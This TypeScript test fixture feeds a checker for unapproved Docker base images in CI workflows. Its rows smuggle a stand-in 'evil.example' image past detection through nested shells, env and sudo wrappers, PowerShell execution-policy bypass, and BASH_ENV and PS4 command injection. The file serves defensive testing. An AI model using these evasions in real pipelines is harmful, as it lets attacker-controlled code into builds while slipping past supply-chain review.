import type { BuildChangeRow } from './build-changes.js';

const EVIL = 'evil.example/x:1';
const FLAG = `--build-arg=BASE=${EVIL}`;
const FLOW = '.github/workflows/build.yml';
const BUILD = 'docker build --build-arg BASE';
const FORBIDDEN = [`Dockerfile:2 unapproved ${EVIL}`];
const UNREADABLE = [`${FLOW}:6 unreadable`];

const flow = (script: string, more: string): string =>
  `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - { run: ${JSON.stringify(script)}${more} }\n`;

const FILES = {
  Dockerfile: 'ARG BASE=debian:trixie-slim\nFROM $BASE\n',
  'z/.zshenv': `export BASE=${EVIL}\n`,
};

/** A step whose script hands a text to another shell. */
const row = (script: string, found: readonly string[], more = ''): BuildChangeRow => ({
  name: `${found.length === 0 ? 'quiet' : 'found'} in a script within a script: ${script}${more}`,
  base: FILES,
  change: { [FLOW]: flow(script, more) },
  found,
});

/** The dialect is that of the shell which is called, not of the one around it. */
const DIALECTS: readonly BuildChangeRow[] = [
  ...['bash -c', 'env bash -euc', '/bin/bash -o pipefail -c'].flatMap((shell) => [
    row(`${shell} 'B=${EVIL}; declare B=debian; ${BUILD}=$B .'`, [], ', shell: sh'),
    row(`${shell} 'B=debian; declare B=${EVIL}; ${BUILD}=$B .'`, FORBIDDEN, ', shell: sh'),
  ]),
  row(`bash <<'A'\nB=${EVIL}; declare B=debian; ${BUILD}=$B .\nA`, [], ', shell: sh'),
  row(`bash -c 'B=debian; B=${EVIL} :; ${BUILD}=$B .'`, [], ', shell: sh'),
  ...['sh', 'dash', 'ash', 'busybox sh', 'ksh', 'mksh'].map((shell) =>
    row(`${shell} -c 'B=debian; B=${EVIL} :; ${BUILD}=$B .'`, FORBIDDEN),
  ),
  ...['sh', 'dash', 'ash'].map((shell) =>
    row(`${shell} <<'A'\nB=${EVIL}; declare B=debian || :; ${BUILD}=$B .\nA`, FORBIDDEN),
  ),
  // where it ends, the shell around it is what it was
  row(`dash -c :; B=debian; B=${EVIL} :; ${BUILD}=$B .`, []),
  row(`bash -c :; B=debian; B=${EVIL} :; ${BUILD}=$B .`, FORBIDDEN, ', shell: sh'),
  row(`T='x ${FLAG}'; export T; bash -c 'docker build -t $T .'`, FORBIDDEN, ', shell: "zsh {0}"'),
  row(`T='x ${FLAG}'; export T; zsh -c 'docker build -t $T .'`, []),
  row(`zsh -c 'T=(-t x ${FLAG}); docker build $T .'`, FORBIDDEN),
  row(`zsh -c 'setopt sh_word_split; T="x ${FLAG}"; docker build -t $T .'`, FORBIDDEN),
  row(`zsh -o shwordsplit -c 'T="x ${FLAG}"; docker build -t $T .'`, FORBIDDEN),
  row(`zsh -c '=docker build ${FLAG} .'`, FORBIDDEN),
  row(`=docker build ${FLAG} .`, FORBIDDEN, ', shell: "zsh {0}"'),
  ...[
    `B=debian; echo \${B::=${EVIL}}`,
    `repeat 1 B=${EVIL}`,
    'setopt rc_expand_param',
    'unsetopt equals',
    'set -o globsubst',
    `alias -g .=". ${FLAG}"`,
    `echo $~X`,
  ].flatMap((command) => [
    row(`zsh -c '${command}; ${BUILD}=$B .'`, UNREADABLE),
    row(`${command}; ${BUILD}=$B .`, UNREADABLE, ', shell: "zsh {0}"'),
  ]),
  row(`zsh -c 'setopt err_exit NO_UNSET pipefail; docker build .'`, []),
  // a function of ksh may share its variables, and so may the end of a pipe
  ...['f() { typeset B', 'function f { typeset B'].map((start) =>
    row(`ksh -c 'B=debian; ${start}=${EVIL}; }; f; ${BUILD}=$B .'`, FORBIDDEN),
  ),
  row(`B=debian; f() { typeset B=${EVIL}; }; f; ${BUILD}=$B .`, FORBIDDEN, ', shell: "ksh {0}"'),
  row(
    `B=debian; echo ${EVIL} | while read -r B; do :; done; ${BUILD}=\${B:-debian} .`,
    FORBIDDEN,
    ', shell: "ksh {0}"',
  ),
];

/** `local` outside of a function is an error, which changes nothing. */
const LOCALS: readonly BuildChangeRow[] = [
  ...['', ', shell: sh', ', shell: "ksh {0}"'].map((more) =>
    row(`B=${EVIL}; local B=debian || :; ${BUILD}=$B .`, FORBIDDEN, more),
  ),
  row(`B=${EVIL}; local B=debian; ${BUILD}=$B .`, [], ', shell: "zsh {0}"'),
  row(`bash -c 'B=${EVIL}; local B=debian || :; ${BUILD}=$B .'`, FORBIDDEN, ', shell: "zsh {0}"'),
];

/** How the text is handed over. */
const CALLS: readonly BuildChangeRow[] = [
  ...[
    `bash -ce '${BUILD}=${EVIL} .'`,
    `bash -c -e -- '${BUILD}=${EVIL} .'`,
    `bash -euo pipefail -c '${BUILD}=$1 .' x ${EVIL}`,
    `bash $FLAGS -c '${BUILD}=${EVIL} .'`,
    `bash -s ${EVIL} <<'A'\n${BUILD}=$1 .\nA`,
    `bash --login <<'A'\n${BUILD}=${EVIL} .\nA`,
    `sudo -E -u root bash -c '${BUILD}=${EVIL} .'`,
    `timeout 5m nice -n 5 bash -c '${BUILD}=${EVIL} .'`,
    `env BASE=${EVIL} bash -c '${BUILD} .'`,
    `BASE=debian env BASE=${EVIL} sh -c '${BUILD} .'`,
    `pwsh -NoProfile -Command "${BUILD}=${EVIL} ."`,
    `pwsh -c "docker build \\\`\n ${FLAG} ."`,
    `powershell.exe -ExecutionPolicy Bypass docker build ${FLAG} .`,
    `/usr/bin/b?sh -c '${BUILD}=${EVIL} .'`,
    `docker run -v $PWD:/w docker:cli sh -ec 'cd /w && ${BUILD}=${EVIL} .'`,
    `BASH_ENV=<(echo '${BUILD}=${EVIL} .') bash -c :`,
  ].map((script) => row(script, FORBIDDEN)),
  // what env gives is not expanded once more
  row(`B=debian; env 'A=$B' bash -c 'B=${EVIL}; eval "${BUILD}=$A ."'`, FORBIDDEN),
  row(`B=${EVIL}; env 'A=$B' bash -c 'B=debian; eval "${BUILD}=$A ."'`, []),
  row(`env PS4='$(docker build ${FLAG} .)' bash -xc :`, FORBIDDEN),
  row(`pwsh -c '$env:BASE = "${EVIL}"; ${BUILD} .'`, FORBIDDEN),
  row(`bash -c 'docker build \\\n ${FLAG} .'`, FORBIDDEN, ', shell: pwsh'),
  row(`ZDOTDIR=z zsh -c '${BUILD} .'`, FORBIDDEN),
  row(`zsh -c '${BUILD} .'`, FORBIDDEN, ', env: { ZDOTDIR: z }'),
  row(`bash -lc 'docker build -t "x:$TAG" .'`, []),
];

/** What another shell defines is not defined here, and the other way round. */
const FUNCTIONS: readonly BuildChangeRow[] = [
  ...[
    `bash -c 'docker() { :; }'; docker build ${FLAG} .`,
    `(docker() { :; }); docker build ${FLAG} .`,
    `X=$(docker() { :; }); docker build ${FLAG} .`,
    `docker() { :; } | cat; docker build ${FLAG} .`,
    `docker() { :; }; sh -c 'docker build ${FLAG} .'`,
    `b() { docker build ${FLAG} .; }; export -f b; bash -c b`,
    `(b() { docker build ${FLAG} .; }; trap b EXIT)`,
  ].map((script) => row(script, FORBIDDEN)),
  row(`docker() { :; }; docker build ${FLAG} .`, []),
  row(`b() { docker build -t "$1" .; }; export -f b; bash -c 'b x'`, []),
];

/** Scripts that are handed to another shell. */
export const SCRIPT_SHELL_CHANGES: readonly BuildChangeRow[] = [
  ...DIALECTS,
  ...LOCALS,
  ...CALLS,
  ...FUNCTIONS,
];
